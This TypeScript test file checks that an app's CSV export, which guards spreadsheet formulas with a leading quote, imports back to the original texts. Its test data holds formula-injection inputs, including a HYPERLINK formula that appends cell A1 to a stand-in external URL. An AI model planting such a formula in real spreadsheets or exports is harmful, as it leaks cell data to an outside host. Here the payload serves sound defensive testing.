// A CSV srlab exported (formulas guarded with a leading quote) imports back to the same texts.
// Needs the import to undo the guard (unguardCsvCell in import/formats.ts's csvMapper).
// Skipped until that one-line change lands: import/* was being converted concurrently when the
// guard was added. Remove `.skip` with it.
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createCore, type Core } from '../../../src/main/core';
import { FORMULA_TRIGGERS } from '../../../src/main/core/datasets/csv-guard';
import { tempDir } from '../../helpers';

const TEXTS = [
  ...FORMULA_TRIGGERS.map((c) => `${c}1+1 starts record ${JSON.stringify(c)}`),
  '=HYPERLINK("http://x.example/?"&A1,"click")',
  "'a literal leading quote",
  "'=a quote, then a formula",
  "''+two quotes, then a formula",
  'plain text with = inside',
];

describe('CSV export → import round trip', () => {
  let core: Core;
  let home: string;
  beforeAll(async () => {
    home = tempDir();
    core = await createCore({ home, loadDemo: false, checkOutputs: true });
    const file = path.join(home, 'in.jsonl');
    fs.writeFileSync(
      file,
      TEXTS.map((t, i) =>
        JSON.stringify({ ID: `t${i}`, Text: t, Labels: { Bias: 'Yes' }, 'Benign Variation': `-${t}` }),
      ).join('\n'),
    );
    await core.datasets.startImport({
      dataset: 'a',
      source: { kind: 'path', path: file },
      format: 'cmd-nested',
      strict: true,
    }).done;
  });
  afterAll(() => core.close());

  const stored = (dataset: string) =>
    core.db
      .prepare<[string], { text: string; benign: string | null; bias: string | null }>(
        'SELECT r.text, r.benign, r.bias FROM records r JOIN datasets d ON d.id = r.dataset_id WHERE d.name = ? ORDER BY r.id',
      )
      .all(dataset);

  it.each([
    { how: 'guarded (default)', rawCsv: false },
    { how: 'raw', rawCsv: true },
  ])('gives back the original texts from a $how export', async ({ rawCsv }) => {
    const out = path.join(home, `a-${rawCsv}.csv`);
    await core.invoke('datasets.export', { dataset: 'a', split: 'all', format: 'csv', out, rawCsv });
    const name = `b-${rawCsv}`;
    const result = await core.datasets.startImport({
      dataset: name,
      source: { kind: 'path', path: out },
      format: 'csv',
      strict: true,
      mapping: { text: 'text', bias: 'bias', benign: 'benign_variation', id: 'source_id' },
    }).done;
    expect(result.imported).toBe(TEXTS.length);
    if (rawCsv) {
      // Exact bytes: only a text that starts with quotes before a trigger changes on import.
      const changed = stored(name).filter((r, i) => r.text !== stored('a')[i]!.text);
      expect(changed.map((r) => r.text)).toEqual(['=a quote, then a formula', "'+two quotes, then a formula"]);
    } else {
      expect(stored(name)).toEqual(stored('a'));
    }
  });
});
